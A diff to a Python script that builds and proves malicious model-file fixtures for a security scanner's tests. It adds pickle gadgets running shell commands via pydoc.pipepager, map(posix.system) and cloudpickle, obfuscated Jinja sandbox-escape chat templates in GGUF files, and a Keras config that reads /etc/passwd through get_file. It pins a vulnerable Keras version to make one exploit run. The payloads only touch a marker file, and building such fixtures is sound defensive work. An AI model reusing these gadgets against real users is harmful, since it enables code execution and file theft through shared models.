@@ -9,10 +9,19 @@ victim would use (pickle.load, joblib.load, torch.load, an unsandboxed Jinja ren
 throwaway subprocess; only files whose marker appeared are kept, and manifest.csv records
 ``proven=yes``. This script is the only place that ever loads these files: the tests only scan them.
 
-Fixtures needing torch/keras are built with ``benchmarks/work/fixturegen`` (its python runs the proof)
-when that venv exists; the others with the interpreter running this script (numpy, joblib, lz4, gguf,
-jinja2 in .venv). Sources (advisories, peers' tests, write-ups) are named per row; no third-party file is
-copied: every byte here is assembled from the technique's description.
+Fixtures needing torch/pandas are built with ``benchmarks/work/fixturegen`` (its python runs the proof),
+Keras ones with ``benchmarks/work/attackgen``: a venv that sees fixturegen's packages plus the last Keras
+before the 2025 safe_mode fixes, so that the CVE's payload can be proven to run:
+
+    python3.11 -m venv benchmarks/work/attackgen
+    echo $PWD/benchmarks/work/fixturegen/lib/python3.11/site-packages \
+        > benchmarks/work/attackgen/lib/python3.11/site-packages/fixturegen.pth
+    benchmarks/work/attackgen/bin/pip install keras==3.10.0
+
+The others are built with the interpreter running this script (numpy, joblib, lz4, gguf, jinja2 in .venv);
+fixtures whose venv is missing are skipped (and keep their committed file). Sources (advisories, peers'
+tests, write-ups) are named per row; no third-party file is copied: every byte here is assembled from the
+technique's description.
 """
 
 from __future__ import annotations
@@ -34,6 +43,8 @@ from pathlib import Path
 ROOT = Path(__file__).resolve().parents[1]
 OUT = ROOT / "tests" / "data" / "security" / "attacks"
 FIXTUREGEN = ROOT / "benchmarks" / "work" / "fixturegen" / "bin" / "python"
+ATTACKGEN = ROOT / "benchmarks" / "work" / "attackgen" / "bin" / "python"  # keras 3.10 (before the 2025 fixes)
+PYTHONS = {"fixturegen": FIXTUREGEN, "attackgen": ATTACKGEN}
 MARK = "aitrail-proof"
 SH = f"touch {MARK}"  # the shell payload
 PY = f"open({MARK!r}, 'w').close()"  # the Python payload
@@ -109,7 +120,7 @@ LOAD_GGUF = (
 )
 LOAD_TOKCONFIG = "import json, sys\nt = json.load(open(sys.argv[1]))['chat_template']\n" + RENDER
 LOAD_TEXT = "import sys\nt = open(sys.argv[1]).read()\n" + RENDER
-LOAD_KERAS = "import sys, keras\nkeras.saving.load_model(sys.argv[1])"
+LOAD_KERAS = "import os, sys\nos.environ['KERAS_BACKEND'] = 'torch'\nimport keras\nkeras.saving.load_model(sys.argv[1])"
 
 
 @dataclass
@@ -121,7 +132,7 @@ class Fixture:
     why: str  # "a|b": the scanner must name one of them (the dangerous thing, not "unknown global")
     build: Callable[[Path], None]  # writes the file at the given path
     loader: str
-    needs: str = "venv"  # or "fixturegen" (torch, keras...)
+    needs: str = "venv"  # or a key of PYTHONS
 
 
 FIXTURES: list[Fixture] = []
@@ -444,6 +455,83 @@ def _a24() -> bytes:
     return P4 + call(sg("_io", "FileIO"), u(MARK), u("w")) + STOP
 
 
+@fixture(
+    "a25_pydoc_pipepager.pkl",
+    "pickle",
+    "pydoc.pipepager(text, cmd) runs cmd through a shell",
+    "picklescan _unsafe_globals 'pydoc' (pipepager); fickling GHSA-5hvc-6wx8-mvv4",
+    "pydoc",
+)
+def _a25() -> bytes:
+    import pydoc
+
+    return dumps(Reduce(pydoc.pipepager, "", SH))
+
+
+@fixture(
+    "a26_sqlite3_connect.pkl",
+    "pickle",
+    "sqlite3.connect(path) creates a database file where the pickle says",
+    "fickling UNSAFE_IMPORTS (sqlite3: file creation)",
+    "sqlite3",
+)
+def _a26() -> bytes:
+    return P4 + call(sg("sqlite3", "connect"), u(MARK)) + STOP
+
+
+@fixture(
+    "a27_zipfile_create.pkl",
+    "pickle",
+    "zipfile.ZipFile(path, 'w') creates (or truncates) a file",
+    "fickling UNSAFE_IMPORTS (zipfile: archive manipulation)",
+    "zipfile",
+)
+def _a27() -> bytes:
+    return P4 + call(sg("zipfile", "ZipFile"), u(MARK), u("w")) + STOP
+
+
+@fixture(
+    "a28_map_consumed_by_list.pkl",
+    "pickle",
+    "posix.system is an argument, not the REDUCE target: builtins.list(builtins.map(posix.system, [cmd])) runs it",
+    "modelaudit PR#1061 (call-graph bypasses: callables handed to iterable consumers)",
+    "system",
+)
+def _a28() -> bytes:
+    mapped = call(sg("builtins", "map"), sg("posix", "system"), pickle.EMPTY_LIST + u(SH) + pickle.APPEND)
+    return P4 + call(sg("builtins", "list"), mapped) + STOP
+
+
+@fixture(
+    "a29_cloudpickle_function.pkl",
+    "pickle",
+    "cloudpickle.dumps of an object whose REDUCE target is a lambda rebuilt from its code object, then called",
+    "picklescan _unsafe_globals 'cloudpickle.cloudpickle' (_make_function, _builtin_type)",
+    "cloudpickle",
+)
+def _a29() -> bytes:
+    import cloudpickle
+
+    return cloudpickle.dumps(Reduce(lambda: os.system(SH)), protocol=4)  # type: ignore[no-any-return]
+
+
+@fixture(
+    "c09_joblib_object_array_record.joblib",
+    "joblib",
+    "joblib.dump of an object ndarray: the array record is a second pickle after the wrapper, holding posix.system",
+    "issue 11 (joblib's framing and its numpy array records)",
+    "system",
+    LOAD_JOBLIB,
+)
+def _c09(p: Path) -> None:
+    import joblib
+    import numpy as np
+
+    arr = np.empty(1, dtype=object)
+    arr[0] = Reduce(os.system, SH)
+    joblib.dump({"coef": np.arange(3.0), "objects": arr}, p)
+
+
 # --- opcode-level tricks: what the walker must follow ---------------------------------------------
 @fixture(
     "o01_frame_straddle.pkl",
@@ -632,6 +720,13 @@ J_ATTR = (
     "{{ (c()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('os')|attr('sys'~'tem')(" + repr(SH) + ") }}"
     "{% endif %}{% endfor %}{% for m in messages %}{{ m['content'] }}{% endfor %}"
 )
+J_JOIN = (
+    "{% set n = namespace(c=['__cla', 'ss__']|join, b=['__ba', 'se__']|join, s=['__subcl', 'asses__']|join) %}"
+    "{% for c in (()|attr(n.c)|attr(n.b)|attr(n.s))() %}{% if c|attr(['__na', 'me__']|join) == 'catch_warnings' %}"
+    "{{ (c()|attr('_module')|attr(['__built', 'ins__']|join))[['__imp', 'ort__']|join]('os')"
+    ".system(" + repr(SH) + ") }}"
+    "{% endif %}{% endfor %}"
+)
 J_SUBSCRIPT = (
     "{{ lipsum['__glo' 'bals__']['o' 's']['pop' 'en'](" + repr(SH) + ").read() }}"
     "{% for m in messages %}{{ m['content'] }}{% endfor %}"
@@ -646,21 +741,37 @@ J_FORMAT = (
     "j01_gguf_chat_template_attr_tilde.gguf",
     "gguf",
     "GGUF tokenizer.chat_template reaching __subclasses__ through |attr and '~'-split names",
-    "CVE-2024-34359 (llama-cpp-python GHSA-56xg-wfcc-g829), obfuscated; issue 11",
-    "__subclasses__",
+    "CVE-2024-34359 (llama-cpp-python GHSA-56xg-wfcc-g829), CVE-2026-5760 (SGLang rerank), obfuscated; issue 11",
+    "__subclasses__|__builtins__|__import__",
     LOAD_GGUF,
 )
 def _j01(p: Path) -> None:
+    _gguf(p, J_ATTR)
+
+
+def _gguf(p: Path, template: str) -> None:
     import gguf
     import numpy as np
 
     w = gguf.GGUFWriter(str(p), "llama")
-    w.add_chat_template(J_ATTR)
+    w.add_chat_template(template)
     w.add_tensor("tok_embd.weight", np.zeros((2, 2), dtype=np.float32))
     w.write_header_to_file()
     w.write_kv_data_to_file()
     w.write_tensors_to_file()
     w.close()
+
+
+@fixture(
+    "j04_gguf_chat_template_join.gguf",
+    "gguf",
+    "GGUF tokenizer.chat_template whose dunder names are built with |join from lists, kept in a namespace()",
+    "CVE-2026-5760 (SGLang rerank renders GGUF templates unsandboxed), obfuscated",
+    "__subclasses__|__builtins__|__import__",
+    LOAD_GGUF,
+)
+def _j04(p: Path) -> None:
+    _gguf(p, J_JOIN)
 
 
 @fixture(
@@ -835,6 +946,43 @@ def _c08(p: Path) -> None:
     pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, p)
 
 
+# --- Keras: configs that reach gadgets inside keras itself (allowed modules, safe_mode on) ----------
+@fixture(
+    "k01_keras_lambda_get_file.keras",
+    "keras-v3",
+    "a Lambda whose function is keras.utils.get_file, called at load with inbound_nodes kwargs: reads file:///etc/passwd"
+    " and writes it where the config says (arbitrary file read/write or download, safe_mode=True)",
+    "CVE-2025-8747 (JFrog; keras < 3.11); io-no/CVE-Reports#5",
+    "get_file",
+    LOAD_KERAS,
+    "attackgen",
+)
+def _k01(p: Path) -> None:
+    import json
+
+    os.environ["KERAS_BACKEND"] = "torch"
+    import keras
+
+    inp = keras.Input(shape=(2,))
+    keras.Model(inp, keras.layers.Lambda(keras.ops.relu, name="fn")(inp)).save(p)
+    with zipfile.ZipFile(p) as src:
+        infos = [(i, src.read(i)) for i in src.infolist()]
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as dst:
+        for info, data in infos:
+            if info.filename == "config.json":
+                cfg = json.loads(data)
+                lam = cfg["config"]["layers"][1]
+                fn = {"module": "keras.utils", "class_name": "function", "config": "get_file"}
+                lam["config"]["function"] = {**fn, "registered_name": "function"}
+                lam["config"]["arguments"] = {"origin": "file:///etc/passwd", "cache_dir": ".", "cache_subdir": "."}
+                lam["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": MARK}}]
+                data = json.dumps(cfg).encode()
+            info.date_time = (2020, 1, 1, 0, 0, 0)
+            dst.writestr(info, data)
+    p.write_bytes(out.getvalue())
+
+
 # --- proof ---------------------------------------------------------------------------------------
 def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
     """Build fx in a fresh directory and load it there in a subprocess; proven when the marker appears."""
@@ -864,7 +1012,7 @@ def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
 def main() -> None:
     ap = argparse.ArgumentParser()
     ap.add_argument("--only", help="build only fixtures whose file name starts with this")
-    ap.add_argument("--needs", choices=["venv", "fixturegen"], help=argparse.SUPPRESS)  # set when delegating
+    ap.add_argument("--needs", choices=["venv", *PYTHONS], help=argparse.SUPPRESS)  # set when delegating
     args = ap.parse_args()
     needs = args.needs or "venv"
     OUT.mkdir(parents=True, exist_ok=True)
@@ -895,12 +1043,16 @@ def main() -> None:
             w.writerow(rows[k])
     if failed:
         print(f"{len(failed)} not proven (not kept): {', '.join(failed)}", file=sys.stderr)
-    if args.needs is None and any(fx.needs == "fixturegen" for fx in chosen):
-        if not FIXTUREGEN.exists():
-            print(f"skipped the torch/pandas fixtures: {FIXTUREGEN} missing", file=sys.stderr)
-            return
+    if args.needs is not None:
+        return
+    for name, python in PYTHONS.items():
+        if not any(fx.needs == name for fx in chosen):
+            continue
+        if not python.exists():
+            print(f"skipped the fixtures needing {python}: missing", file=sys.stderr)
+            continue
         extra = ["--only", args.only] if args.only else []
-        subprocess.run([str(FIXTUREGEN), __file__, "--needs", "fixturegen", *extra], check=True)
+        subprocess.run([str(python), __file__, "--needs", name, *extra], check=True)
 
 
 if __name__ == "__main__":
